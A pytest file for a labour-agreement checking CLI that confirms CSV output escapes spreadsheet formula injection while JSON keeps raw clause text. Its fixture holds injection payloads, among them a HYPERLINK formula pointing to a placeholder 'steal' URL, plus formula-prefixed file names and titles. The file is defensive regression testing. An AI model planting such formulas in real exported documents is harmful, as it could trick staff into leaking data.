"""Issue 15, item 2: clause text that a spreadsheet would run as a formula is neutralised in CSV.

Before the fix a clause beginning with ``=HYPERLINK(...)`` went into the CSV cell unchanged,
and ran when staff opened the report. Every cell that comes from a document is prefixed
with a single quote when it starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return (OWASP); JSON keeps the raw text.
"""

from __future__ import annotations

import csv
import io
import json

import docx

from pipeline.cli import cli

HOSTILE = {
    "Remuneration": '=HYPERLINK("http://x.example/steal","click") The Employer shall pay overtime '
                    "at not less than double the rate.",
    "Compensation": "@SUM(1+1) The Employer shall pay a lump sum of ten annual wages in the event of "
                    "the death of an employee at work.",
    "Indexation": "-1+1 The Employer shall index wages annually not lower than the official inflation rate.",
}  # fmt: skip


def _hostile_docx(path):
    """An agreement whose unnumbered clauses start with formulas, each under its own section."""
    document = docx.Document()
    document.add_paragraph("+Collective Agreement of Hostile LLP for 2024-2026")
    for number, (heading, text) in enumerate(HOSTILE.items(), start=1):
        document.add_paragraph(f"Section {number}. {heading}")
        document.add_paragraph(text)
    document.save(path)
    return path


def _check(runner, fmt):
    return runner.invoke(
        cli, ["check", "=hostile.docx", "--against", "general-agreement", "--all", "--format", fmt]
    )


def test_csv_cells_from_the_document_cannot_run_as_formulas(runner, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    _hostile_docx(tmp_path / "=hostile.docx")
    result = _check(runner, "csv")
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    texts = {row["clause_text"] for row in rows if row["clause_text"]}
    assert texts == {"'" + text for text in HOSTILE.values()}
    for row in rows:
        for column, cell in row.items():
            if column.endswith("_comparator"):  # kelisim's own ">=", "=", "<=": no formula can follow
                assert cell in ("", "=", ">=", "<=", ">", "<"), (column, cell)
                continue
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
    assert {row["agreement_file"] for row in rows} == {"'=hostile.docx"}
    assert {row["agreement_title"] for row in rows} == {"'+Collective Agreement of Hostile LLP for 2024-2026"}


def test_json_keeps_the_raw_clause_text(runner, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    _hostile_docx(tmp_path / "=hostile.docx")
    result = _check(runner, "json")
    assert result.exit_code == 0, result.output
    texts = {f["clause_text"] for f in json.loads(result.stdout)["findings"] if f["clause_text"]}
    assert texts == set(HOSTILE.values())
